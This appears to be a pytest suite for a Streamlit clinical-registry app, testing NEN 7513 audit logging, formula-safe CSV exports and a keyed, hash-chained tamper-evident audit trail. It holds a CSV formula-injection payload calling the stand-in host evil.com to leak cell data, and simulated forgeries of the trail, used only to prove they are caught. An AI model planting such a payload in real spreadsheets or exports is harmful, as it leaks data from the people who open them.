"""NEN 7513-complete audit (issue 14, part 4): each test is named after the finding it reproduces.

- patient rows left through the table toolbar's "Download as CSV" unaudited and not formula-safe;
- ``python -m warehouse quarantine`` printed patient rows without an audit row;
- the patient list was logged as centre/pathway/month, not which patients were shown;
- refused attempts were not logged;
- ``ui.data._cached`` authorised only on a cache miss;
- the audit trail was not tamper-evident, and its audit.csv export not formula-safe;
- a trail cut at its end, or emptied, still verified; and its hash was unkeyed, so whoever could
  write the file could edit a row and recompute the chain.
"""

from __future__ import annotations

import csv
import datetime as dt
import getpass
import hashlib
import hmac
import io
import json
import os
import subprocess
import sys
import tomllib
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import duckdb
import pytest
from streamlit.testing.v1 import AppTest

import ui.patient_table
import ui.review_view
from access import audit
from access.roles import AccessDenied
from access.settings import NotConfigured
from cli import main
from tests.apptest import ROOT, app, texts
from tests.viewers import ADMIN, data_manager, lead
from ui import data as ui_data
from warehouse.connection import data_version, published

UMCU_SEPTEMBER = ["e1", "e2", "e3", "e4"]  # the review fixture's patients of the month (tests/fixtures.py)


def rows_of(path: Path) -> list[dict]:
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines() if line.strip()]


def fingerprints(*ids: str) -> set[str]:
    return {audit.fingerprint(i) for i in ids}


def spy_on_csv(monkeypatch: pytest.MonkeyPatch, module) -> list[bytes]:
    """Every CSV a module makes, as it made it."""
    made: list[bytes] = []
    original = ui.review_view.csv_bytes

    def spied(frame, *args):
        made.append(original(frame, *args))
        return made[-1]

    monkeypatch.setattr(module, "csv_bytes", spied)
    return made


def clicked_downloads(monkeypatch: pytest.MonkeyPatch) -> None:
    """Every ``st.download_button`` whose file is made on the click (a callable) makes it at once, as a click would."""
    import streamlit

    original = streamlit.download_button

    def clicked(label, data, *args, **kwargs):
        return original(label, data() if callable(data) else data, *args, **kwargs)

    monkeypatch.setattr(streamlit, "download_button", clicked)


def cells(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    dialect = csv.Sniffer().sniff(text.splitlines()[0], delimiters=";,")
    return [cell for row in csv.reader(io.StringIO(text), dialect) for cell in row]


def quarantine_locators(warehouse: Path, centre: str | None = None) -> list[str]:
    sql = "select distinct load_id, file_name, row_number from quarantine" + (" where centre_code = $c" if centre else "")
    with duckdb.connect(str(published(warehouse)), read_only=True) as con:
        found = con.execute(sql, {"c": centre} if centre else None).fetchall()
    return [f"{load_id}:{file_name}:{row}" for load_id, file_name, row in found]


# ------------------------------------------------------------------------------------------------
# the toolbar download


def test_no_table_offers_streamlits_own_csv_download() -> None:
    with (ROOT / ".streamlit" / "config.toml").open("rb") as f:
        assert tomllib.load(f)["client"]["disableDataExport"] is True


def test_patient_list_toolbar_download_is_replaced_by_an_audited_formula_safe_download(
    review_warehouse, monkeypatch, tmp_path
) -> None:
    made = spy_on_csv(monkeypatch, ui.patient_table)
    at = app(review_warehouse, monkeypatch, viewer_centre="UMCU")
    monkeypatch.setenv("AUDIT_PATH", str(tmp_path / "audit.jsonl"))
    at.run()
    assert not at.exception
    button = at.download_button(key="csv_patients_table")
    assert "download_patient_rows" not in {r["action"] for r in rows_of(tmp_path / "audit.jsonl")}  # shown, not taken
    button.click().run()
    [row] = [r for r in rows_of(tmp_path / "audit.jsonl") if r["action"] == "download_patient_rows"]
    assert (row["user"], row["role"], row["centre"]) == ("lead.umcu", "centre_lead", "UMCU")
    assert "patienten_knee_oa_" in row["what"] and "4 rows" in row["what"]
    assert set(row["patients"]) == fingerprints(*UMCU_SEPTEMBER) and row["patient_count"] == 4
    assert '"e1"' not in json.dumps(row)
    assert made and "e1" in made[-1].decode("utf-8-sig")  # the file itself is made by csv_bytes


def test_quarantine_table_download_is_audited(demo_warehouse, monkeypatch, tmp_path) -> None:
    made = spy_on_csv(monkeypatch, ui.patient_table)
    at = app(demo_warehouse, monkeypatch, viewer=data_manager("AUMC"))
    monkeypatch.setenv("AUDIT_PATH", str(tmp_path / "audit.jsonl"))
    at.run()
    at.switch_page("pages/data.py").run()
    assert not at.exception
    at.download_button(key="csv_quarantine_table").click().run()
    [row] = [r for r in rows_of(tmp_path / "audit.jsonl") if r["action"] == "download_patient_rows"]
    expected = fingerprints(*quarantine_locators(demo_warehouse, "AUMC"))
    assert row["centre"] == "AUMC" and row["patient_count"] == len(expected)
    assert set(row["patients"]) == set(list(expected)[: audit.MAX_FINGERPRINTS]) or set(row["patients"]) <= expected
    assert all(not c.startswith(("=", "+", "-", "@")) for c in cells(made[-1]) if c)


def test_trajectory_table_download_is_audited(demo_warehouse, monkeypatch, tmp_path) -> None:
    with duckdb.connect(str(published(demo_warehouse)), read_only=True) as con:
        [(episode,)] = con.execute(
            "select episode_id from prom_measurements where centre_code = 'UMCU' order by episode_id limit 1"
        ).fetchall()
    at = app(demo_warehouse, monkeypatch, viewer_centre="UMCU", trajectory_episode=episode)
    monkeypatch.setenv("AUDIT_PATH", str(tmp_path / "audit.jsonl"))
    at.run()
    at.switch_page("pages/trajectory.py").run()
    assert not at.exception
    at.download_button(key="csv_trajectory_proms").click().run()
    [row] = [r for r in rows_of(tmp_path / "audit.jsonl") if r["action"] == "download_patient_rows"]
    assert row["patients"] == [audit.fingerprint(episode)] and episode not in row["what"]


def test_chart_with_data_of_patient_rows_downloads_audited(monkeypatch, tmp_path) -> None:
    def page() -> None:
        import plotly.graph_objects as go
        import polars as pl

        from ui.review_view import chart_with_data

        frame = pl.DataFrame({"episode_id": ["p1", "p2"], "value": ["=1+1", "ok"]})
        chart_with_data(go.Figure(), frame, "rows", "rows.csv")
        chart_with_data(go.Figure(), pl.DataFrame({"month": ["2026-01"], "n": [3]}), "totals", "totals.csv")

    monkeypatch.setenv("AUDIT_PATH", str(tmp_path / "audit.jsonl"))
    at = AppTest.from_function(page, default_timeout=30)
    at.session_state["viewer"] = lead("UMCU")
    at.run()
    assert not at.exception
    at.download_button(key="csv_totals").click().run()  # aggregates: no audit row
    assert not (tmp_path / "audit.jsonl").exists()
    at.download_button(key="csv_rows").click().run()
    [row] = rows_of(tmp_path / "audit.jsonl")
    assert row["action"] == "download_patient_rows" and set(row["patients"]) == fingerprints("p1", "p2")


# ------------------------------------------------------------------------------------------------
# the command line


def test_cli_quarantine_listing_writes_an_audit_row(demo_warehouse, monkeypatch, tmp_path, capsys) -> None:
    monkeypatch.setenv("AUDIT_PATH", str(tmp_path / "audit.jsonl"))
    assert main(["quarantine", "--db", str(demo_warehouse)]) == 0
    assert "reason" in capsys.readouterr().out
    [row] = rows_of(tmp_path / "audit.jsonl")
    expected = fingerprints(*quarantine_locators(demo_warehouse))
    assert (row["action"], row["role"], row["user"]) == ("cli_list_patient_rows", "command_line", getpass.getuser())
    assert row["patient_count"] == len(expected) and set(row["patients"]) <= expected
    assert len(row["patients"]) == min(len(expected), audit.MAX_FINGERPRINTS)


# ------------------------------------------------------------------------------------------------
# which patients


def test_patient_list_view_records_which_patients(review_warehouse, monkeypatch, tmp_path) -> None:
    at = app(review_warehouse, monkeypatch, viewer_centre="UMCU")
    monkeypatch.setenv("AUDIT_PATH", str(tmp_path / "audit.jsonl"))
    at.run()
    [row] = [r for r in rows_of(tmp_path / "audit.jsonl") if "review_patients" in r["what"]]
    assert (row["user"], row["action"]) == ("lead.umcu", "view_patient_rows") and row["time"]
    assert set(row["patients"]) == fingerprints(*UMCU_SEPTEMBER) and row["patient_count"] == 4
    assert not any(e in json.dumps(row) for e in ('"e1"', '"e2"', "=e1", "=e2"))
    at.run()  # a rerun served from the cache records the same patients again
    again = [r for r in rows_of(tmp_path / "audit.jsonl") if "review_patients" in r["what"]]
    assert len(again) == 2 and again[1]["patients"] == row["patients"]


def test_meeting_pack_with_patients_records_their_fingerprints(review_warehouse, monkeypatch, tmp_path) -> None:
    from reports.meeting_pack import build

    monkeypatch.setenv("AUDIT_PATH", str(tmp_path / "audit.jsonl"))
    build(lead("UMCU"), review_warehouse, "UMCU", "knee_oa", dt.date(2026, 9, 1), with_patients=True)
    [row] = rows_of(tmp_path / "audit.jsonl")
    assert row["action"] == "pack_with_patient_rows"
    assert set(row["patients"]) == fingerprints(*UMCU_SEPTEMBER) and row["patient_count"] == 4
    assert not any(f'"{e}"' in json.dumps(row) for e in UMCU_SEPTEMBER)


def test_fingerprints_are_keyed_and_closed_outside_demo_mode(monkeypatch) -> None:
    demo = audit.fingerprint("e1")
    assert len(demo) == 16 and int(demo, 16) >= 0
    monkeypatch.setenv("AUDIT_FINGERPRINT_SECRET", "x" * 40)
    keyed = audit.fingerprint("e1")
    assert keyed != demo and keyed == audit.fingerprint("e1")
    monkeypatch.delenv("AUDIT_FINGERPRINT_SECRET")
    monkeypatch.delenv("SAMEN_LEREN_DEMO")
    with pytest.raises(NotConfigured, match="AUDIT_FINGERPRINT_SECRET"):
        audit.fingerprint("e1")


def test_the_row_list_is_capped_but_the_count_is_kept(tmp_path) -> None:
    many = [audit.fingerprint(f"e{i}") for i in range(audit.MAX_FINGERPRINTS + 7)]
    audit.record("view_patient_rows", "many", lead("UMCU"), path=tmp_path / "a.jsonl", patients=many)
    [row] = rows_of(tmp_path / "a.jsonl")
    assert row["patient_count"] == audit.MAX_FINGERPRINTS + 7 and row["patients"] == many[: audit.MAX_FINGERPRINTS]


# ------------------------------------------------------------------------------------------------
# refusals and the cache


def test_refused_attempts_are_logged(monkeypatch, tmp_path) -> None:
    def page() -> None:
        import streamlit as st

        from access.roles import AccessDenied
        from ui.data import query
        from ui.peer_data import compared

        for name, params in (
            ("trajectory_episode", {"centre_code": "AUMC", "episode_id": "secret-episode"}),
            ("data_quarantine", {"centre_code": "UMCU"}),
        ):
            try:
                query(name, **params)
            except AccessDenied:
                st.write(f"refused {name}")
        if st.session_state.get("drop_viewer"):
            del st.session_state["viewer"]
            try:
                compared("comparison", "knee_oa", "outcome:x", None, "all")
            except AccessDenied:
                st.write("refused peers")

    monkeypatch.setenv("AUDIT_PATH", str(tmp_path / "audit.jsonl"))
    at = AppTest.from_function(page, default_timeout=30)
    at.session_state["viewer"] = lead("UMCU")
    at.run()
    assert not at.exception
    refused = [r for r in rows_of(tmp_path / "audit.jsonl") if r["action"] == "refused"]
    assert [r["what"].split(":")[0] for r in refused] == ["trajectory_episode", "data_quarantine"]
    assert all(r["user"] == "lead.umcu" and r["centre"] == "UMCU" for r in refused)
    assert "secret-episode" not in refused[0]["what"] and audit.fingerprint("secret-episode") in refused[0]["what"]
    assert "AUMC" in refused[0]["what"]  # what was asked for
    at.session_state["drop_viewer"] = True
    at.run()
    last = rows_of(tmp_path / "audit.jsonl")[-1]
    assert (last["action"], last["user"], last["role"]) == ("refused", "(not logged in)", "anonymous")
    assert last["what"].startswith("peers:")


def test_cached_query_authorises_on_every_call(demo_warehouse, monkeypatch, tmp_path) -> None:
    monkeypatch.setenv("AUDIT_PATH", str(tmp_path / "audit.jsonl"))
    path = published(demo_warehouse)
    with duckdb.connect(str(path), read_only=True) as con:
        [(episode,)] = con.execute("select min(episode_id) from episodes where centre_code = 'AUMC'").fetchall()
    params = (("centre_code", "AUMC"), ("episode_id", episode))
    version = data_version(path)
    own = ui_data._cached("trajectory_episode", params, lead("AUMC"), str(path), version)
    assert own["episode_id"].to_list() == [episode]  # now in the cache, for AUMC's scope
    with pytest.raises(AccessDenied):
        ui_data._cached("trajectory_episode", params, lead("UMCU"), str(path), version)
    with pytest.raises(AccessDenied):  # even the cache itself: keyed by the scope of the viewer it gets
        ui_data._run_for_scope("trajectory_episode", params, lead("UMCU"), str(path), version)


# ------------------------------------------------------------------------------------------------
# tamper evidence


def _append_many(path: str, writer: int, n: int) -> None:
    for i in range(n):
        audit.record("view_patient_rows", f"writer {writer} row {i}", user=f"w{writer}", path=Path(path))


def test_the_audit_trail_is_hash_chained_and_verifiable(tmp_path, capsys) -> None:
    path = tmp_path / "audit.jsonl"
    for i in range(5):
        audit.record("login", f"row {i}", lead("UMCU"), path=path)
    first = rows_of(path)[0]
    assert first["prev"] == audit.GENESIS  # where the chain starts
    assert str(audit.verify(path)) == "OK: 5 rows"
    assert main(["audit-verify", "--path", str(path)]) == 0
    assert capsys.readouterr().out.strip() == "OK: 5 rows"
    lines = path.read_text(encoding="utf-8").splitlines(keepends=True)

    changed = tmp_path / "changed.jsonl"
    changed.write_text("".join([*lines[:2], lines[2].replace("row 2", "row X"), *lines[3:]]), encoding="utf-8")
    assert (audit.verify(changed).broken_line, audit.verify(changed).rows) == (3, 2)
    assert main(["audit-verify", "--path", str(changed)]) == 1
    assert capsys.readouterr().out.startswith("BROKEN: line 3")

    rehashed = json.loads(lines[2].replace("row 2", "row X"))  # the forger recomputes the row's own hash
    rehashed["hash"] = audit._content_hash(rehashed)
    forged = tmp_path / "forged.jsonl"
    forged.write_text("".join([*lines[:2], json.dumps(rehashed) + "\n", *lines[3:]]), encoding="utf-8")
    assert audit.verify(forged).broken_line == 4  # the next row's prev gives it away

    removed = tmp_path / "removed.jsonl"
    removed.write_text("".join([*lines[:1], *lines[2:]]), encoding="utf-8")
    assert audit.verify(removed).broken_line == 2
    inserted = tmp_path / "inserted.jsonl"
    inserted.write_text("".join([*lines[:3], lines[1], *lines[3:]]), encoding="utf-8")
    assert audit.verify(inserted).broken_line == 4
    assert main(["audit-verify", "--path", str(tmp_path / "none.jsonl")]) == 2


def test_concurrent_writers_keep_the_chain(tmp_path) -> None:
    path = tmp_path / "audit.jsonl"
    code = (
        "import sys; from pathlib import Path; from access import audit\n"
        "for i in range(40): audit.record('view_patient_rows', f'row {i}', user=sys.argv[2], path=Path(sys.argv[1]))"
    )
    processes = [
        subprocess.Popen([sys.executable, "-c", code, str(path), str(w)], cwd=ROOT, env={**os.environ, "PYTHONPATH": str(ROOT)})
        for w in range(4)
    ]
    with ThreadPoolExecutor(4) as pool:  # threads of one process (the app's sessions) as well
        list(pool.map(lambda w: _append_many(str(path), w, 40), range(10, 14)))
    assert [p.wait(120) for p in processes] == [0, 0, 0, 0]
    assert str(audit.verify(path)) == "OK: 320 rows"
    anchor = json.loads(audit.anchor_path(path).read_text(encoding="utf-8"))  # and one anchor that matches it
    assert anchor == {"rows": 320, "hash": audit._line_hash(path.read_bytes().splitlines()[-1])}
    assert not list(tmp_path.glob("*.tmp"))  # every temporary anchor was renamed into place


def _trail(path: Path, n: int = 5) -> list[str]:
    for i in range(n):
        audit.record("login", f"row {i}", lead("UMCU"), path=path)
    return path.read_text(encoding="utf-8").splitlines(keepends=True)


def test_a_cut_tail_is_caught(tmp_path, capsys) -> None:
    path = tmp_path / "audit.jsonl"
    lines = _trail(path)
    assert json.loads(audit.anchor_path(path).read_text(encoding="utf-8"))["rows"] == 5

    cut = tmp_path / "t.jsonl"  # head -n -1 audit.jsonl > t.jsonl: a copy without its anchor
    cut.write_text("".join(lines[:-1]), encoding="utf-8")
    assert main(["audit-verify", "--path", str(cut)]) == 1
    assert "no anchor" in capsys.readouterr().out
    assert main(["audit-verify", "--path", str(cut), "--anchor", str(audit.anchor_path(path))]) == 1
    assert capsys.readouterr().out.strip() == "BROKEN: line 5: the trail ends at line 4, the anchor says 5 rows"

    path.write_text("".join(lines[:-2]), encoding="utf-8")  # cut in place, the anchor beside it
    assert (audit.verify(path).broken_line, audit.verify(path).rows) == (4, 3)
    audit.record("login", "after the cut", lead("UMCU"), path=path)  # the next appends do not hide it
    assert str(audit.verify(path)) == "BROKEN: line 5: the trail ends at line 4, the anchor says 5 rows"
    audit.record("login", "after the cut", lead("UMCU"), path=path)
    audit.record("login", "after the cut", lead("UMCU"), path=path)
    assert str(audit.verify(path)) == "BROKEN: line 5: line 5 is not the row the anchor names (rewritten)"
    assert main(["audit-verify", "--path", str(path)]) == 1


def test_an_empty_trail_with_an_anchor_is_caught(tmp_path, capsys) -> None:
    path = tmp_path / "audit.jsonl"
    _trail(path, 3)
    path.write_bytes(b"")
    assert str(audit.verify(path)) == "BROKEN: line 1: the trail is empty, the anchor says 3 rows"
    assert main(["audit-verify", "--path", str(path)]) == 1
    path.unlink()  # a missing trail beside its anchor is no "no trail here" (exit 2) either
    assert main(["audit-verify", "--path", str(path)]) == 1
    assert capsys.readouterr().out.strip().endswith("the trail is empty, the anchor says 3 rows")
    audit.record("login", "a fresh start", lead("UMCU"), path=path)
    assert not audit.verify(path).ok
    fresh = tmp_path / "fresh.jsonl"  # an empty trail with no anchor: nothing written yet
    fresh.write_bytes(b"")
    assert str(audit.verify(fresh)) == "OK: 0 rows"


def _rechain(lines: list[str], key: bytes | None) -> str:
    """The forger's trail: every row's prev and hash recomputed, unkeyed (``key`` None) or under ``key``."""

    def digest(data: bytes) -> str:
        return hashlib.sha256(data).hexdigest() if key is None else hmac.new(key, data, hashlib.sha256).hexdigest()

    out, previous = [], None
    for line in lines:
        row = json.loads(line)
        row["prev"] = audit.GENESIS if previous is None else digest(previous)
        body = {k: v for k, v in row.items() if k != "hash"}
        row["hash"] = digest(json.dumps(body, sort_keys=True, ensure_ascii=False, separators=(",", ":")).encode())
        previous = json.dumps(row, ensure_ascii=False).encode()
        out.append(previous.decode() + "\n")
    return "".join(out)


@pytest.mark.parametrize("key", [None, b"not-the-key", b"samen-leren-demo-audit-key"], ids=["unkeyed", "wrong", "bare"])
def test_a_row_edited_and_the_chain_recomputed_without_the_key_is_caught(tmp_path, key) -> None:
    path = tmp_path / "audit.jsonl"
    lines = _trail(path)
    edited = [*lines[:2], lines[2].replace("row 2", "row X"), *lines[3:]]
    path.write_text(_rechain(edited, key), encoding="utf-8")
    last = path.read_bytes().splitlines()[-1]  # the forger rewrites the anchor to match as well
    anchor = {"rows": 5, "hash": hashlib.sha256(last).hexdigest() if key is None else hmac.new(key, last, "sha256").hexdigest()}
    audit.anchor_path(path).write_text(json.dumps(anchor), encoding="utf-8")
    checked = audit.verify(path)
    assert (checked.broken_line, checked.rows) == (1, 0)  # not one row carries the key's hash
    assert ("unkeyed" in checked.reason) == (key is None)
    assert main(["audit-verify", "--path", str(path)]) == 1


def test_the_chain_is_keyed_by_the_fingerprint_secret(tmp_path, monkeypatch) -> None:
    path = tmp_path / "audit.jsonl"
    monkeypatch.setenv("AUDIT_FINGERPRINT_SECRET", "k" * 40)
    _trail(path, 2)
    assert str(audit.verify(path)) == "OK: 2 rows"
    assert audit.chain_key() not in {b"k" * 40, hmac.new(b"k" * 40, b"", "sha256").digest()}  # derived, labelled
    monkeypatch.setenv("AUDIT_FINGERPRINT_SECRET", "m" * 40)
    assert audit.verify(path).broken_line == 1
    monkeypatch.delenv("AUDIT_FINGERPRINT_SECRET")
    monkeypatch.delenv("SAMEN_LEREN_DEMO")
    with pytest.raises(NotConfigured, match="AUDIT_FINGERPRINT_SECRET"):
        audit.record("login", "unkeyed", lead("UMCU"), path=path)
    assert len(path.read_bytes().splitlines()) == 2  # nothing written outside the keyed chain


def test_a_trail_longer_than_its_anchor_verifies(tmp_path) -> None:
    path = tmp_path / "audit.jsonl"
    _trail(path, 2)
    older = audit.anchor_path(path).read_bytes()  # a copy shipped elsewhere, or a crash before the replace
    _trail(path, 2)
    audit.anchor_path(path).write_bytes(older)
    assert str(audit.verify(path)) == "OK: 4 rows (the anchor vouches for the first 2)"
    audit.record("login", "next", lead("UMCU"), path=path)  # the next append brings the anchor up to date
    assert str(audit.verify(path)) == "OK: 5 rows"


def test_audit_page_shows_whether_the_chain_verifies(tmp_path, review_warehouse, monkeypatch) -> None:
    at = app(review_warehouse, monkeypatch, viewer=ADMIN)
    path = tmp_path / "audit.jsonl"
    monkeypatch.setenv("AUDIT_PATH", str(path))
    audit.record("login", "local", lead("UMCU"), path=path)
    at.run()
    at.switch_page("pages/audit.py").run()
    assert not at.exception
    assert "hashketen van de audittrail klopt" in texts(at)
    path.write_text(path.read_text(encoding="utf-8").replace('"local"', '"oidc"'), encoding="utf-8")
    at.run()
    assert "verbroken bij regel 1" in at.error[0].value


def test_the_audit_page_reads_the_trail_again_only_after_it_changed(tmp_path, review_warehouse, monkeypatch) -> None:
    path = tmp_path / "audit.jsonl"
    monkeypatch.setenv("AUDIT_PATH", str(path))
    audit.record("login", "local", lead("UMCU"), path=path)
    verified: list[int] = []
    real = audit.verify

    def counted(*args, **kwargs):
        verified.append(1)
        return real(*args, **kwargs)

    monkeypatch.setattr(audit, "verify", counted)
    ui_data._audit_trail.clear()
    at = app(review_warehouse, monkeypatch, viewer=ADMIN)
    monkeypatch.setenv("AUDIT_PATH", str(path))
    at.run()
    at.switch_page("pages/audit.py").run()
    at.run()
    assert len(verified) == 1 and "klopt: 1 regels" in texts(at)  # the re-run reuses what it read

    audit.record("login", "local", lead("AUMC"), path=path)
    at.run()
    assert len(verified) == 2 and "klopt: 2 regels" in texts(at)

    # a rewrite of the same size with its old modification time still shows: the change time moves on
    before = path.stat()
    path.write_bytes(path.read_bytes().replace(b'"AUMC"', b'"UMCU"'))
    os.utime(path, ns=(before.st_atime_ns, before.st_mtime_ns))
    at.run()
    assert len(verified) == 3 and "verbroken bij regel 2" in at.error[0].value


def test_audit_csv_export_is_formula_safe(tmp_path, review_warehouse, monkeypatch) -> None:
    made = spy_on_csv(monkeypatch, ui.review_view)
    clicked_downloads(monkeypatch)
    at = app(review_warehouse, monkeypatch, viewer=ADMIN)
    path = tmp_path / "audit.jsonl"
    monkeypatch.setenv("AUDIT_PATH", str(path))
    evil = '=HYPERLINK("https://evil.example/?"&A1,"x") episodes.csv'
    audit.record("load", f"{evil}: loaded, 3 gelezen", data_manager("AUMC"), path=path)
    at.run()
    at.switch_page("pages/audit.py").run()
    assert not at.exception
    exported = cells(made[-1])
    assert any("HYPERLINK" in c for c in exported)
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in exported)
